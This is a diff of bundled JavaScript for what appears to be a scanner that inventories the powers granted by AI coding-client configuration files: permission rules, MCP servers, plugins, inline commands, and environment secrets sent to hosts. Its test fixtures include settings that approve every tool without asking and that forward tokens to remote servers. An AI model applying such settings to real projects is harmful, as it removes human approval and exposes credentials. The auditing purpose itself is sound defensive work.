+				read: only("only listed servers"),
+				example: { mcp: { allowed: ["docs"] } }
+			}),
+			...grants$1("guard", "excluded", "does not start the servers", {
+				read: names$4({ kind: "guard" }),
+				example: { mcp: { excluded: ["docs"] } }
+			})
+		]),
+		...sandboxRows,
+		...geminiRows
+	],
+	unitOf: clientFile(".gemini/settings.json"),
+	sample: { path: ".gemini/settings.json" }
+});
+function rules$5(kind) {
+	return names$4({
 		kind,
 		feature: "permission-rule",
-		scope: text.trim(),
-		reach: "one",
-		subject,
-		trigger: inRepository,
-		at
-	}));
-	const core = fields.get("core");
-	const only = core ? [settingGrant("tools.core", "only listed tools", {
-		kind: "guard",
-		at: core.keyAt
-	})] : [];
-	const coreTools = listGrants(core, "tools.", ({ text, at }, subject) => settingGrant(subject, `tool ${text.trim()}`, { at }));
-	return combine$1(rules("allowed", "approve"), rules("exclude", "guard"), { grants: only }, coreTools, opaqueSetting(fields.get("sandbox"), "tools."), ...["discoveryCommand", "callCommand"].map((key) => commandGrant(tools, key)), { unread: unreadFields(tools, toolKeys, "tools.") });
-}
-function commandGrant({ fields }, key) {
-	const field = fields.get(key);
-	const line = text$1(field?.value);
-	if (!field || line === void 0) return {};
-	return { grants: [{
-		kind: "run",
-		feature: "helper-command",
-		subject: `tools.${key}`,
-		scope: line.trim(),
-		reach: "one",
-		trigger: inRepository,
-		pin: pinOf$1(line),
-		at: field.value.at
-	}] };
+		trigger: inRepository
+	});
 }
 // src/powers/carriers/mcp-json.ts
-const known$2 = new Set(["mcpServers", "$schema"]);
-const mcpJson = {
+const mcpJson = tableCarrier({
 	id: "mcp-json",
-	title: "`.mcp.json` of a repository or a plugin",
+	paths: [".mcp.json"],
 	client: "Claude Code, Copilot, Cursor",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "mcpServers.<name>.command",
-			kind: "mcp",
-			description: "starts the program as a server, with its tools"
-		},
-		{
-			field: "mcpServers.<name>.url",
-			kind: "mcp",
-			description: "connects to the server, with its tools"
-		},
-		{
-			field: "mcpServers.<name>.headers",
-			kind: "secret",
-			description: "sends variables of the environment to the host"
-		},
-		{
-			field: "mcpServers.<name>.env",
-			kind: "secret",
-			description: "gives variables of the environment to the server"
-		},
-		{
-			field: "mcpServers.<name>.headersHelper",
-			kind: "run",
-			description: "runs the command at every connection"
-		}
-	],
+	format: "json",
+	consequence: "no server of it is started",
+	optionalKey: "mcpServers",
+	rows: [...clientServersRows("mcpServers", {
+		needsType: true,
+		ignoresMarks: true
+	}), ...harmless$1("$schema")],
 	unitOf(path, tree) {
 		if (nameOf$3(path) !== ".mcp.json") return null;
 		const root = folderOf(path);
@@ -17745,51 +20228,252 @@ const mcpJson = {
 			root
 		};
 	},
-	read({ path, text, unit }) {
-		const { root, faults } = readJson(path, text, { consequence: "no server of it is started" });
-		if (!root) return combine$1({ faults });
-		const servers = get(root, "mcpServers");
-		if (!servers) return readServers(root, {
-			unit,
-			needsType: true
-		});
-		return combine$1({ unread: unreadFields(root, known$2) }, readServers(servers, {
-			unit,
-			needsType: true
-		}));
-	},
-	examples: [
-		exampleOf$1("mcp", "npx -y docs-mcp@latest", [
-			{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}}}\n" },
-			{ ".mcp.json": "{\"mcpServers\": {}}\n" },
-			{ ".mcp.json": "{\n  \"mcpServers\": {\n    \"docs\": {\"args\": [\"-y\", \"docs-mcp@latest\"], \"command\": \"npx\"}\n  }\n}\n" },
-			{ ".mcp.json": "{\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}}\n" }
-		]),
-		exampleOf$1("mcp", "https://docs.example/mcp", [
-			{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" },
-			{ ".mcp.json": "{\"mcpServers\": {}}\n" },
-			{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"url\": \"HTTPS://DOCS.example/mcp\", \"type\": \"http\"}}}\n" }
-		]),
-		exampleOf$1("secret", "${DOCS_TOKEN} to https://docs.example", [{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example\", \"headers\": {\"X-Key\": \"${DOCS_TOKEN}\"}}}}\n" }, { ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example\"}}}\n" }]),
-		exampleOf$1("secret", "${DB_URL} to the server", [{ ".mcp.json": "{\"mcpServers\": {\"db\": {\"command\": \"db-mcp\", \"env\": {\"URL\": \"${DB_URL}\"}}}}\n" }, { ".mcp.json": "{\"mcpServers\": {\"db\": {\"command\": \"db-mcp\"}}}\n" }]),
-		exampleOf$1("run", "./header.sh", [{ ".mcp.json": "{\"mcpServers\": {\"d\": {\"type\": \"http\", \"url\": \"https://d.example\", \"headersHelper\": \"./header.sh\"}}}\n" }, { ".mcp.json": "{\"mcpServers\": {\"d\": {\"type\": \"http\", \"url\": \"https://d.example\"}}}\n" }])
-	]
-};
+	sample: { path: ".mcp.json" }
+});
 const manifests = [
 	".claude-plugin/plugin.json",
 	".codex-plugin/plugin.json",
 	".cursor-plugin/plugin.json"
 ];
+// src/powers/clients/opencode-permission.ts
+const ranks = new Map([
+	["allow", 0],
+	["ask", 1],
+	["deny", 2]
+]);
+const askedByDefault = new Set(["external_directory", "doom_loop"]);
+const readPermission = (field) => permissionOf(field, {
+	prefix: "",
+	overrides: false
+});
+const readAgentPermission = (field, { name }) => permissionOf(field, {
+	prefix: name.slice(0, -field.key.length),
+	overrides: true
+});
+const readTool = (field) => ({ grants: flag$1(field.value) === false ? [limit(field, "deny", "")] : [] });
+const readAgentTool = (field, { name }) => {
+	const prefix = name.slice(0, -`tools.${field.key}`.length);
+	const isOn = flag$1(field.value);
+	if (isOn === void 0) return {};
+	return { grants: [isOn ? allowed(field, prefix) : limit(field, "deny", prefix)] };
+};
+const readPermissionRule = ({ value }, { name }) => {
+	const [action, resource, effect] = [
+		"action",
+		"resource",
+		"effect"
+	].map((key) => text$1(get(value, key)));
+	const owner = name.replace(/permissions\[.*\]$/, "");
+	const scope = `${owner}${action ?? ""} ${resource ?? ""}`.trim();
+	const base = {
+		feature: "permission-rule",
+		subject: `${owner}permissions`,
+		trigger: inRepository,
+		reach: action !== void 0 && effect !== void 0 ? "one" : "unknown",
+		at: value.at
+	};
+	if (effect === "deny" || effect === "ask") return { grants: [{
+		...base,
+		kind: "guard",
+		scope: `${scope}: ${effect}`
+	}] };
+	return { grants: [{
+		...base,
+		kind: "approve",
+		scope
+	}] };
+};
+function permissionOf({ key, value }, owner) {
+	const { prefix } = owner;
+	const action = text$1(value);
+	if (action === "allow") {
+		const subject = `${prefix}${key}`;
+		return { grants: [{
+			feature: "permission-rule",
+			trigger: inRepository,
+			subject,
+			kind: "approve",
+			scope: "every tool",
+			reach: "any",
+			at: value.at
+		}] };
+	}
+	if (action !== void 0 && ranks.has(action)) return { grants: [limit({
+		key: "every tool",
+		keyAt: value.at,
+		value
+	}, action, prefix)] };
+	if (value.kind === "table") return combine$1(...fields(value).map((field) => toolPermission(field, owner)));
+	return { faults: [{
+		...wrongType(key, value, {
+			expected: "allow, ask, deny or a mapping",
+			consequence: "it limits nothing"
+		}),
+		isUnreadable: true
+	}] };
+}
+function toolPermission(field, { prefix, overrides }) {
+	const { key, value } = field;
+	const action = text$1(value);
+	if (action !== void 0 && ranks.has(action)) {
+		if (action !== "allow") return { grants: [limit(field, action, prefix)] };
+		return overrides || askedByDefault.has(key) ? { grants: [allowed(field, prefix)] } : {};
+	}
+	if (value.kind !== "table") return { faults: [guardFault(wrongType(`permission.${key}`, value, {
+		expected: "allow, ask, deny or a mapping",
+		consequence: "it limits nothing"
+	}))] };
+	return { grants: patternGrants(field, {
+		prefix,
+		overrides
+	}) };
+}
+function allowed({ key, value }, prefix) {
+	return {
+		kind: "approve",
+		feature: "permission-rule",
+		scope: `${prefix}${key}`,
+		reach: "one",
+		subject: `${prefix}${key}`,
+		trigger: inRepository,
+		at: value.at
+	};
+}
+function patternGrants(field, { prefix, overrides }) {
+	const { keyAt, value } = field;
+	const key = `${prefix}${field.key}`;
+	const patterns = fields(value).map((each) => [each.key, source(each.value) ?? ""]);
+	const isLimit = patterns.some(([, action]) => action !== "allow");
+	const all = patterns.map(([pattern, action]) => `${pattern}: ${action}`).join(", ");
+	const whole = {
+		feature: "permission-rule",
+		subject: key,
+		trigger: inRepository,
+		scope: `${key} {${all}}`,
+		reach: "pattern",
+		at: keyAt
+	};
+	if (isLimit) return [{
+		...whole,
+		kind: "guard"
+	}];
+	return overrides && patterns.length > 0 ? [{
+		...whole,
+		kind: "approve"
+	}] : [];
+}
+function limit({ key, value }, action, prefix) {
+	return {
+		kind: "guard",
+		feature: "permission-rule",
+		subject: `${prefix}${key}`,
+		trigger: inRepository,
+		scope: `${prefix}${key}: ${action}`,
+		reach: "one",
+		rank: ranks.get(action),
+		at: value.at
+	};
+}
+// src/powers/clients/opencode-agents.ts
+const opencodeAgentRows = [
+	...grants$1("approve", "permission", "`allow`: does not ask; `ask`, `deny`: limits", {
+		read: readAgentPermission,
+		example: { permission: { bash: "allow" } }
+	}),
+	...grants$1("guard", "tools.<tool>", "false: takes the tool away; true: allows it", {
+		read: readAgentTool,
+		example: { tools: { bash: false } }
+	}),
+	...grants$1("guard", "disable", "true: nobody can start the agent", {
+		read: off(true),
+		example: { disable: true }
+	}),
+	...grants$1("settings", "options", "what the provider of the model gets", {
+		read: opaque(),
+		example: { options: { baseURL: "https://models.example" } }
+	}),
+	...harmless$1(`
+    name model variant temperature top_p prompt description mode hidden color steps maxSteps
+  `)
+];
+const opencodeAgent2Rows = [
+	...permissionRuleRows("permissions[]"),
+	...grants$1("settings", "request", "what the provider of the model gets", {
+		read: opaque(),
+		example: { request: {
+			headers: { "X-Team": "docs" },
+			body: {}
+		} }
+	}),
+	...harmless$1("id model system description mode hidden color steps")
+];
+function permissionRuleRows(field) {
+	const rule = (effect) => ({
+		action: "bash",
+		resource: "git *",
+		effect
+	});
+	const key = field.replace("[]", "");
+	return [...grants$1("approve", field, "`allow`: does not ask; `ask`, `deny`: limits", {
+		read: readPermissionRule,
+		example: { [key]: [rule("allow")] }
+	}), ...within(field, harmless$1("action resource effect"))];
+}
+// src/powers/markdown/opencode-files.ts
+function inOpencode(path, kind, folders) {
+	const names = path.split("/");
+	const index = names.lastIndexOf(".opencode", -3);
+	return index !== -1 && folders.includes(names[index + 1] ?? "") && path.endsWith(".md") ? {
+		kind,
+		root: path
+	} : null;
+}
+// src/powers/carriers/opencode-agent.ts
+const opencodeAgent = {
+	id: "opencode-agent",
+	paths: [
+		".opencode/agent/**/*.md",
+		".opencode/agents/**/*.md",
+		".opencode/mode/*.md",
+		".opencode/modes/*.md"
+	],
+	client: "opencode",
+	extensions: ["md"],
+	rows: opencodeAgentRows,
+	unitOf: (path) => inOpencode(path, "agent", [
+		"agent",
+		"agents",
+		"mode",
+		"modes"
+	]),
+	read(source) {
+		const file = readFrontmatter(source.path, source.text);
+		const { frontmatter, isUnreadable } = file;
+		if (isUnreadable) return combine$1({ faults: [unreadableFrontmatter(file, source.path)] });
+		if (!frontmatter) return nothing$1;
+		return combine$1({ name: text$1(get(frontmatter, "name")) }, readTable(frontmatter, opencodeAgentRows, {
+			source,
+			client: "opencode",
+			isForPeople: true
+		}));
+	},
+	sample: {
+		path: ".opencode/agents/a.md",
+		fields: { description: "Helps." }
+	},
+	examples: []
+};
 // src/powers/carriers/opencode-code.ts
 const opencodeCode = {
 	id: "opencode-code",
-	title: "`.opencode/plugins/*.{ts,js}`, `.opencode/tools/*.{ts,js}`",
+	paths: [
+		".opencode/plugin/*.{js,cjs,mjs,ts,cts,mts}",
+		".opencode/plugins/*.{js,cjs,mjs,ts,cts,mts}",
+		".opencode/tool/*.{js,cjs,mjs,ts,cts,mts}",
+		".opencode/tools/*.{js,cjs,mjs,ts,cts,mts}"
+	],
 	client: "opencode",
-	fields: [{
-		field: "(the file)",
-		kind: "run",
-		description: "runs at every start, without asking"
-	}],
+	rows: [...grants$1("run", "(the file)", "runs at every start, without asking")],
 	unitOf(path) {
 		const folder = folderOf(path);
 		const parent = folderOf(folder);
@@ -17814,105 +20498,22 @@ const opencodeCode = {
 			reach: "one",
 			subject: scope,
 			trigger: { start: "session" },
-			programs: [path],
+			command: ["node", scope],
 			at: { path }
 		}] });
 	},
 	examples: [exampleOf$1("run", ".opencode/plugins/notify.ts", [{ ".opencode/plugins/notify.ts": "export const Notify = async () => ({})\n" }, {}])]
 };
-// src/powers/clients/opencode-permission.ts
-const ranks = new Map([
-	["allow", 0],
-	["ask", 1],
-	["deny", 2]
-]);
-const askedByDefault = new Set(["external_directory", "doom_loop"]);
-function readPermission(permission, tools) {
-	return combine$1({ grants: fields(tools?.value).flatMap((field) => flag$1(field.value) === false ? [limit(field, "deny")] : []) }, permission ? permissionOf(permission) : {});
-}
-function permissionOf({ key, value }) {
-	const action = text$1(value);
-	if (action === "allow") return { grants: [{
-		feature: "permission-rule",
-		trigger: inRepository,
-		subject: key,
-		kind: "approve",
-		scope: "every tool",
-		reach: "any",
-		at: value.at
-	}] };
-	if (action !== void 0 && ranks.has(action)) return { grants: [limit({
-		key: "every tool",
-		keyAt: value.at,
-		value
-	}, action)] };
-	if (value.kind === "table") return combine$1(...fields(value).map(toolPermission));
-	return { faults: [{
-		...wrongType(key, value, {
-			expected: "allow, ask, deny or a mapping",
-			consequence: "it limits nothing"
-		}),
-		isUnreadable: true
-	}] };
-}
-function toolPermission(field) {
-	const { key, value } = field;
-	const action = text$1(value);
-	if (action !== void 0 && ranks.has(action)) {
-		if (action !== "allow") return { grants: [limit(field, action)] };
-		if (!askedByDefault.has(key)) return {};
-		return { grants: [{
-			kind: "approve",
-			feature: "permission-rule",
-			scope: key,
-			reach: "one",
-			subject: key,
-			trigger: inRepository,
-			at: value.at
-		}] };
-	}
-	if (value.kind !== "table") return { faults: [wrongType(`permission.${key}`, value, {
-		expected: "allow, ask, deny or a mapping",
-		consequence: "it limits nothing"
-	})] };
-	return { grants: patternGrants(field) };
-}
-function patternGrants({ key, keyAt, value }) {
-	const patterns = fields(value).map((field) => [field.key, source(field.value) ?? ""]);
-	if (!patterns.some(([, action]) => action !== "allow")) return [];
-	const all = patterns.map(([pattern, action]) => `${pattern}: ${action}`).join(", ");
-	return [{
-		feature: "permission-rule",
-		subject: key,
-		trigger: inRepository,
-		kind: "guard",
-		scope: `${key} {${all}}`,
-		reach: "pattern",
-		at: keyAt
-	}];
-}
-function limit({ key, value }, action) {
-	return {
-		kind: "guard",
-		feature: "permission-rule",
-		subject: key,
-		trigger: inRepository,
-		scope: `${key}: ${action}`,
-		reach: "one",
-		rank: ranks.get(action),
-		at: value.at
-	};
-}
 // src/powers/clients/opencode-programs.ts
-function readPlugins$1(value, unit) {
+function readPlugins$1(value) {
 	return combine$1({ grants: items(value).map((item) => {
-		return pluginGrant(source(item.kind === "list" ? item.items[0] : item) ?? "", item, unit);
+		return pluginGrant(source(item.kind === "list" ? item.items[0] : item) ?? "", item);
 	}) });
 }
-function pluginGrant(written, { at }, { root }) {
+function pluginGrant(written, { at }) {
 	const path = written.replace(/^file:\/\//, "");
 	if (/^(?:\.{0,2}\/|file:)/.test(written)) {
-		const target = resolve$1(root, path);
+		const target = resolve$1("", path);
 		return {
 			kind: "run",
 			feature: "background-program",
@@ -17925,7 +20526,7 @@ function pluginGrant(written, { at }, { root }) {
 				kind: "plugin",
 				name: written
 			},
-			programs: target === void 0 ? [] : [target]
+			command: target === void 0 ? void 0 : ["node", target]
 		};
 	}
 	const [, name = written, version = ""] = /^(.[^@]*)@(.*)$/s.exec(written) ?? [];
@@ -17968,41 +20569,74 @@ function programGrant(key, { key: name, value }) {
 		command: run
 	}];
 }
-function readCommands(value) {
-	return combine$1({ grants: fields(value).flatMap(({ key, value: command }) => {
-		const template = get(command, "template");
-		return [...(text$1(template) ?? "").matchAll(/!`([^`\n]+)`/g)].map(([, line = ""]) => {
-			return {
-				kind: "run",
-				feature: "inline-command",
-				scope: line.trim(),
-				reach: "one",
-				subject: `command.${key}`,
-				trigger: { start: "load" },
-				pin: pinOf$1(line),
-				command: line,
-				at: template?.at ?? command.at
-			};
-		});
-	}) });
+function inlineGrants(written, subject, at) {
+	return [...written.matchAll(/!`([^`\n]+)`/g)].map(({ index, 0: whole, 1: line = "" }) => ({
+		kind: "run",
+		feature: "inline-command",
+		scope: line.trim(),
+		reach: "one",
+		subject,
+		trigger: { start: "load" },
+		pin: pinOf$1(line),
+		command: line,
+		at: at(index, index + whole.length),
+		remark: /\$(?:ARGUMENTS|\d)/.test(line) ? "text of the user becomes part of the command" : void 0
+	}));
 }
-function readProviders(value) {
-	return combine$1({ grants: fields(value).flatMap(({ key, value: provider }) => {
-		const address = get(get(provider, "options"), "baseURL");
-		if (!address) return [];
-		const { name, isKnown } = hostOf$1(text$1(address));
-		const more = {
-			kind: "net",
-			reach: isKnown ? "one" : "unknown",
-			remark: "requests to the model go there",
-			at: address.at
-		};
-		return [settingGrant(`provider.${key}`, name, more)];
-	}) });
-}
+const readTemplate = ({ value }, { name }) => ({ grants: inlineGrants(text$1(value) ?? "", name.replace(/\.template$/, ""), () => value.at) });
+const readProviderAddress = ({ value }, { keys: [id = ""] }) => {
+	const { name, isKnown } = hostOf$2(text$1(value));
+	const more = {
+		kind: "net",
+		reach: isKnown ? "one" : "unknown",
+		remark: "requests to the model go there",
+		at: value.at
+	};
+	return { grants: [settingGrant(`provider.${id}`, name, more)] };
+};
+const readProviderKey = ({ value }, { keys: [id = ""] }) => {
+	const names = value.kind === "list" ? stringsOf(value) : null;
+	const written = [...(text$1(value) ?? "").matchAll(/\{env:(\w+)\}/g)];
+	return { grants: (names ?? written.map(([, variable = ""]) => ({
+		text: variable,
+		at: value.at
+	}))).map(({ text: variable, at }) => ({
+		kind: "secret",
+		feature: "secret",
+		scope: `\${${variable}} to provider ${id}`,
+		reach: "one",
+		subject: `provider.${id}`,
+		trigger: inRepository,
+		variable,
+		receiver: `provider ${id}`,
+		at
+	})) };
+};
+const readPackage = ({ value }) => ({ grants: [pluginGrant(text$1(value) ?? "", value)] });
+const readReference$1 = ({ key, value }) => {
+	const repository = text$1(get(value, "repository")) ?? text$1(value);
+	if (repository === void 0 || /^[.~/]/.test(repository)) return {};
+	const branch = text$1(get(value, "branch"));
+	const place = `git ${repository}`;
+	return { grants: [{
+		kind: "install",
+		feature: "source",
+		scope: branch === void 0 ? place : `${place}@${branch}`,
+		reach: "one",
+		subject: `reference ${key}`,
+		trigger: { start: "session" },
+		pin: {
+			level: "mutable",
+			program: place,
+			revision: branch
+		},
+		at: value.at,
+		remark: "texts that the model follows"
+	}] };
+};
 function readInstructions(root) {
 	return combine$1({ grants: [get(root, "instructions"), get(get(root, "skills"), "urls")].flatMap((value) => stringsOf(value) ?? []).filter((entry) => /^https?:\/\//i.test(entry.text)).map(({ text: url, at }) => {
-		const { name } = hostOf$1(url);
+		const { name } = hostOf$2(url);
 		return {
 			kind: "install",
 			feature: "source",
@@ -18019,99 +20653,192 @@ function readInstructions(root) {
 		};
 	}) });
 }
+// src/powers/carriers/opencode-command.ts
+const duringTurn$1 = { start: "turn" };
+const path$1 = ".opencode/commands/st.md";
+const rows$6 = [
+	...grants$1("run", "!<command in backticks>", "runs the command each time the text is loaded"),
+	...grants$1("delegate", "agent", "the agent that does the work", {
+		read: ({ value }) => ({ grants: [{
+			kind: "delegate",
+			feature: "delegation",
+			subject: "agent",
+			scope: text$1(value) ?? "",
+			reach: text$1(value) === void 0 ? "unknown" : "one",
+			trigger: duringTurn$1,
+			at: value.at
+		}] }),
+		example: { agent: "build" }
+	}),
+	...harmless$1("description model variant subtask")
+];
+const opencodeCommand = {
+	id: "opencode-command",
+	paths: [".opencode/command/**/*.md", ".opencode/commands/**/*.md"],
+	client: "opencode",
+	extensions: ["md"],
+	rows: rows$6,
+	unitOf: (file) => inOpencode(file, "command", ["command", "commands"]),
+	read(source) {
+		const file = readFrontmatter(source.path, source.text);
+		const { frontmatter, isUnreadable, body } = file;
+		const lines = inlineGrants(body.text, "text", (start, end) => body.locate(start, end));
+		const faults = isUnreadable ? [unreadableFrontmatter(file, source.path)] : [];
+		const read = frontmatter ? readTable(frontmatter, rows$6, {
+			source,
+			client: "opencode",
+			isForPeople: true
+		}) : {};
+		return combine$1({
+			grants: lines,
+			faults
+		}, read);
+	},
+	sample: {
+		path: path$1,
+		fields: { description: "Shows the state." }
+	},
+	examples: [exampleOf$1("run", "git status", [
+		{ [path$1]: "---\ndescription: Shows the state.\n---\nLook: !`git status`\n" },
+		{ [path$1]: "---\ndescription: Shows the state.\n---\nLook: git status\n" },
+		{ [path$1]: "---\ndescription: \"Shows the state.\"\n---\n\nLook at this: !`git status`\n" }
+	])]
+};
 // src/powers/examples/opencode-config.ts
 const config = (text) => ({ "opencode.json": `${text}\n` });
-const example$7 = exampleWriter(config);
+const example$6 = exampleWriter(config);
 const opencodeExamples = [
-	example$7("approve", "every tool", [
+	example$6("approve", "every tool", [
 		"{\"permission\": \"allow\"}",
 		"{\"permission\": {}}",
 		"{\n  // all\n  \"permission\": \"allow\",\n}"
 	]),
-	example$7("guard", "bash: deny", [
+	example$6("guard", "bash: deny", [
 		"{\"permission\": {\"bash\": \"deny\", \"edit\": \"ask\"}}",
 		"{\"permission\": {\"bash\": \"ask\", \"edit\": \"ask\"}}",
 		"{\"permission\": {\"edit\": \"ask\", \"bash\": \"deny\"}}"
 	]),
-	example$7("mcp", "npx -y docs-mcp@latest", [
+	example$6("mcp", "npx -y docs-mcp@latest", [
 		"{\"mcp\": {\"docs\": {\"type\": \"local\", \"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"enabled\": true}}}",
 		"{\"mcp\": {\"docs\": {\"type\": \"local\", \"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"enabled\": false}}}",
 		"{\"mcp\": {\"docs\": {\"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"type\": \"local\"}}}"
 	]),
-	example$7("secret", "${DOCS_KEY} to https://docs.example/mcp", ["{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\", \"headers\": {\"X-Key\": \"{env:DOCS_KEY}\"}}}}", "{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\"}}}"]),
-	example$7("install", "npm opencode-notify", [
+	example$6("secret", "${DOCS_KEY} to https://docs.example/mcp", ["{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\", \"headers\": {\"X-Key\": \"{env:DOCS_KEY}\"}}}}", "{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\"}}}"]),
+	example$6("install", "npm opencode-notify", [
 		"{\"plugin\": [\"opencode-notify\"]}",
 		"{\"plugin\": []}",
 		"{\"plugin\": [[\"opencode-notify\", {\"sound\": true}]]}"
 	]),
-	example$7("install", "https://rules.example/style.md", [
+	example$6("install", "https://rules.example/style.md", [
 		"{\"instructions\": [\"AGENTS.md\", \"https://rules.example/style.md\"]}",
 		"{\"instructions\": [\"AGENTS.md\"]}",
 		"{\"instructions\": [\"https://rules.example/style.md\", \"AGENTS.md\"]}"
 	]),
-	example$7("run", "./hooks/notify.ts", ["{\"plugin\": [\"./hooks/notify.ts\"]}", "{\"plugin\": []}"]),
-	example$7("run", "git status --short", ["{\"command\": {\"st\": {\"template\": \"Look: !`git status --short`\"}}}", "{\"command\": {\"st\": {\"template\": \"Look: git status --short\"}}}"]),
-	example$7("net", "https://models.example/v1", ["{\"provider\": {\"own\": {\"options\": {\"baseURL\": \"https://models.example/v1\"}}}}", "{\"provider\": {\"own\": {}}}"]),
-	example$7("settings", "share", ["{\"share\": \"auto\"}", "{}"])
+	example$6("run", "./hooks/notify.ts", ["{\"plugin\": [\"./hooks/notify.ts\"]}", "{\"plugin\": []}"]),
+	example$6("run", "git status --short", ["{\"command\": {\"st\": {\"template\": \"Look: !`git status --short`\"}}}", "{\"command\": {\"st\": {\"template\": \"Look: git status --short\"}}}"]),
+	example$6("net", "https://models.example/v1", ["{\"provider\": {\"own\": {\"options\": {\"baseURL\": \"https://models.example/v1\"}}}}", "{\"provider\": {\"own\": {}}}"]),
+	example$6("settings", "share", ["{\"share\": \"auto\"}", "{}"])
 ];
 // src/powers/carriers/opencode-config.ts
 const names$2 = ["opencode.json", "opencode.jsonc"];
-const opencodeConfig = {
+const inEntry = (key) => (row) => ({
+	...row,
+	example: row.example && { [key]: { x: row.example } }
+});
+const permissionRows = [
+	...grants$1("approve", "permission", "`allow`: never asks", {
+		read: readPermission,
+		example: { permission: "allow" }
+	}),
+	...grants$1("guard", "permission.<tool>", "`ask`, `deny`: limits the tool", { example: { permission: {
+		bash: "deny",
+		edit: "ask"
+	} } }),
+	...grants$1("guard", "tools.<tool>", "false: takes the tool away", {
+		read: readTool,
+		example: { tools: { bash: false } }
+	}),
+	...permissionRuleRows("permissions[]"),
+	...["agent", "mode"].flatMap((key) => within(`${key}.<name>`, opencodeAgentRows).map(inEntry(key))),
+	...within("agents.<name>", opencodeAgent2Rows).map(inEntry("agents")),
+	...agentRow.map((row) => ({
+		...row,
+		field: "default_agent",
+		example: { default_agent: "build" }
+	}))
+];
+const programRows = [
+	...clientServersRows("mcp"),
+	...grants$1("install", "plugin[]", "installs the package and runs it at every start", { example: { plugin: ["opencode-notify"] } }),
+	...grants$1("run", "lsp.<name>, formatter.<name>", "runs the program", { example: { lsp: { ts: {
+		command: ["ts-ls"],
+		extensions: [".ts"]
+	} } } }),
+	...["lsp", "formatter"].flatMap((key) => within(`${key}.<name>`, harmless$1("command extensions disabled environment env initialization"))),
+	...grants$1("run", "shell", "the program that runs every command", {
+		read: command$3(),
+		example: { shell: "./shell.sh" }
+	}),
+	...["command", "commands"].flatMap((key) => [...grants$1("run", `${key}.<name>.template`, "runs the command of each `` !`\u2026` ``", {
+		read: readTemplate,
+		example: { [key]: { st: { template: "Look: !`git status --short`" } } }
+	}), ...within(`${key}.<name>`, harmless$1("name description agent model variant subtask"))])
+];
+const providerRows = within("provider.<id>", [
+	...grants$1("net", "api, options.baseURL, options.enterpriseUrl, models.<model>.provider.api", "requests to the model go there", {
+		read: readProviderAddress,
+		example: { provider: { own: { options: { baseURL: "https://models.example/v1" } } } }
+	}),
+	...grants$1("install", "npm, models.<model>.provider.npm", "installs the package and runs it", {
+		read: readPackage,
+		example: { provider: { own: { npm: "@acme/models" } } }
+	}),
+	...grants$1("secret", "env, options.apiKey", "gives variables of the environment to the provider", {
+		read: readProviderKey,
+		example: { provider: { own: { options: { apiKey: "{env:OWN_KEY}" } } } }
+	}),
+	...harmless$1(`
+    name id whitelist blacklist options.<other>
+    models.<model>.id models.<model>.name models.<model>.family models.<model>.release_date
+    models.<model>.attachment models.<model>.reasoning models.<model>.temperature
+    models.<model>.tool_call models.<model>.interleaved models.<model>.cost models.<model>.limit
+    models.<model>.modalities models.<model>.experimental models.<model>.status
+    models.<model>.options models.<model>.headers models.<model>.variants
+  `)
+]);
+const opencodeConfig = tableCarrier({
 	id: "opencode-config",
-	title: "`opencode.json`, `opencode.jsonc`, also in `.opencode`",
+	paths: ["opencode.json", "opencode.jsonc"],
 	client: "opencode",
-	extensions: ["json", "jsonc"],
-	fields: [
-		{
-			field: "permission: allow",
-			kind: "approve",
-			description: "never asks"
-		},
-		{
-			field: "permission.<tool>: ask, deny",
-			kind: "guard",
-			description: "limits the tool"
-		},
-		{
-			field: "mcp.<name>",
-			kind: "mcp",
-			description: "starts the server, with its tools"
-		},
-		{
-			field: "mcp.<name>.environment, headers",
-			kind: "secret",
-			description: "passes on variables of the environment"
-		},
-		{
-			field: "plugin[]",
-			kind: "install",
-			description: "installs the package and runs it at every start"
-		},
-		{
-			field: "plugin[]: <path>; lsp, formatter",
-			kind: "run",
-			description: "runs the program"
-		},
-		{
-			field: "command.<name>.template: !`<command>`",
-			kind: "run",
-			description: "runs the command"
-		},
-		{
-			field: "provider.<id>.options.baseURL",
-			kind: "net",
-			description: "requests to the model go there"
-		},
-		{
-			field: "instructions[]: <url>, skills.urls[]",
-			kind: "install",
-			description: "fetches texts that the model follows"
-		},
-		{
-			field: "agent, mode, share, server",
-			kind: "settings",
-			description: "shown as written"
-		}
+	format: "jsonc",
+	consequence: "opencode does not start",
+	rows: [
+		...permissionRows,
+		...programRows,
+		...providerRows,
+		...grants$1("install", "instructions", "fetches texts that the model follows", {
+			example: { instructions: ["AGENTS.md", "https://rules.example/style.md"] },
+			without: { instructions: ["AGENTS.md"] }
+		}),
+		...grants$1("install", "skills.urls", "fetches texts that the model follows"),
+		...["references", "reference"].flatMap((key) => [...grants$1("install", `${key}.<name>`, "fetches the repository for the model", {
+			read: readReference$1,
+			example: { [key]: { style: { repository: "acme/style" } } }
+		}), ...within(`${key}.<name>`, harmless$1("repository branch description hidden path"))]),
+		...grants$1("settings", "autoshare", "true: shares each session", {
+			read: on(),
+			example: { autoshare: true }
+		}),
+		...grants$1("settings", "share, server, enterprise, experimental", "shown as written", {
+			read: opaque(),
+			example: { share: "auto" }
+		}),
+		...harmless$1("lsp formatter"),
+		...harmless$1(`
+    $schema theme keybinds model small_model username tui watcher snapshot compaction layout
+    autoupdate disabled_providers enabled_providers logLevel subagent_depth attachment tool_output
+    skills.paths
+  `)
 	],
 	unitOf(path) {
 		if (!names$2.includes(nameOf$3(path))) return null;
@@ -18121,44 +20848,124 @@ const opencodeConfig = {
 			root: nameOf$3(folder) === ".opencode" ? folderOf(folder) : folder
 		};
 	},
